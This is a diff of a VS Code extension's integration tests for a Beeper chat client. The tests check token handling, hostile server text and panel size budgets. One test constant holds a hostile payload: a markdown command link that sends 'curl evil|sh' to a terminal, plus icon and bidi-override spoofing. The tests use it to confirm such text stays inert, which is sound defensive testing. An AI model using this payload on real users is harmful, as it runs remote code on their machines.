@@ -1,4 +1,4 @@
-// Hardening, in the real host: the stored token only goes where the user sent it; server text
+// Trust, in the real host: the stored token only goes where the user sent it; server text
 // never becomes markup in notifications or quick picks; no login session is left open on any
 // path; a bad base URL is explained, not thrown; big groups stay bounded.
 import * as assert from 'node:assert';
@@ -9,7 +9,7 @@ import * as vscode from 'vscode';
 import type { BeeperExtensionApi } from '../../src/extension';
 import type { LoginResult } from '../../src/login/loginService';
 import { LoginDisplayPanel } from '../../src/webviews/loginPanel';
-import { activateExtension, children, resetSandbox, sandbox, sandboxUrl, waitFor } from './helpers';
+import { activateExtension, children, openChatPage, resetSandbox, sandbox, sandboxUrl, waitFor } from './helpers';
 
 type State = { openLoginSessions: number; loginSessions: { bridgeID: string; status: string }[]; requests: { total: number } };
 const HOSTILE = 'Pay [now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) $(zap)$(alert) \u202Eexe.txt';
@@ -20,7 +20,7 @@ function assertInert(text: string, where: string): void {
   assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(text), `${where}: no bidi control`);
 }
 
-suite('Hardening', () => {
+suite('Trust: where the token goes, hostile text, logins that end, bounded panels', () => {
   let api: BeeperExtensionApi;
   const env = { base: process.env.BEEPER_DESKTOP_BASE_URL, token: process.env.BEEPER_ACCESS_TOKEN };
   const real = { error: vscode.window.showErrorMessage, warning: vscode.window.showWarningMessage, info: vscode.window.showInformationMessage, pick: vscode.window.showQuickPick, create: vscode.window.createQuickPick, box: vscode.window.createInputBox };
@@ -261,7 +261,7 @@ suite('Hardening', () => {
     }
   });
 
-  test('a 1,000-member group with a local avatar each: at most 100 rendered, images within the panel budget', async () => {
+  test('a 1,000-member group with a local avatar each: 100 listed first, avatars copied within the panel budget, no message over 1 MB', async () => {
     const root = fs.mkdtempSync(path.join(os.tmpdir(), 'beeper-avatars-'));
     const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(300 * 1024, 7)]);
     for (let i = 0; i < 1000; i++) fs.writeFileSync(path.join(root, `p${i}.png`), png);
@@ -274,19 +274,18 @@ suite('Hardening', () => {
         participantCount: 1000,
         participantImgURL: vscode.Uri.file(path.join(root, 'p{i}.png')).toString(),
       });
-      const panel = await vscode.commands.executeCommand<{ html: string; imageBytes: number; updates: { type: string; items?: unknown[] }[]; onMessage(m: unknown): Promise<void> }>(
-        'beeper.openChat',
-        '!crowd:sandbox.localhost',
-      );
-      assert.strictEqual((panel.html.match(/<li class="participant/g) ?? []).length, 100);
-      assert.ok(panel.imageBytes <= 4 * 1024 * 1024, `${panel.imageBytes} bytes inlined`);
-      assert.ok(panel.html.length < 5 * 1024 * 1024, `${panel.html.length} characters of HTML`);
-      assert.ok((panel.html.match(/class="avatar placeholder"/g) ?? []).length > 50, 'past the budget, initials');
-      await panel.onMessage({ type: 'showMoreParticipants' });
-      const more = panel.updates.filter((u) => u.type === 'participants').pop()!;
-      assert.strictEqual(more.items!.length, 300, 'the page lists 300, by message');
-      assert.ok(JSON.stringify(more).length < 5 * 1024 * 1024);
-      assert.ok(panel.imageBytes <= 4 * 1024 * 1024, `${panel.imageBytes} bytes inlined`);
+      const panel = await openChatPage(await activateExtension(), '!crowd:sandbox.localhost');
+      await waitFor('the participants', () => panel.page.participants);
+      assert.strictEqual(panel.page.participants!.items.length, 100);
+      assert.ok(panel.html.length < 64 * 1024, `${panel.html.length} characters of HTML: a shell`);
+      await panel.receive({ type: 'showMoreParticipants' });
+      const more = panel.page.participants!;
+      assert.strictEqual(more.items.length, 300, 'the page lists 300, by message');
+      assert.ok(panel.imageBytes <= 32 * 1024 * 1024, `${panel.imageBytes} bytes of avatars copied`);
+      assert.ok(more.items.filter((p) => !p.avatar).length > 50, 'past the budget, initials');
+      // Every avatar is a webview resource named by key: no message carries image bytes.
+      const largest = Math.max(...panel.posted.map((u) => JSON.stringify(u).length));
+      assert.ok(largest < 1024 * 1024, `the largest message to the page is ${largest} characters`);
     } finally {
       await vscode.workspace.getConfiguration('beeper').update('localMediaRoots', undefined, vscode.ConfigurationTarget.Global);
       fs.rmSync(root, { recursive: true, force: true });
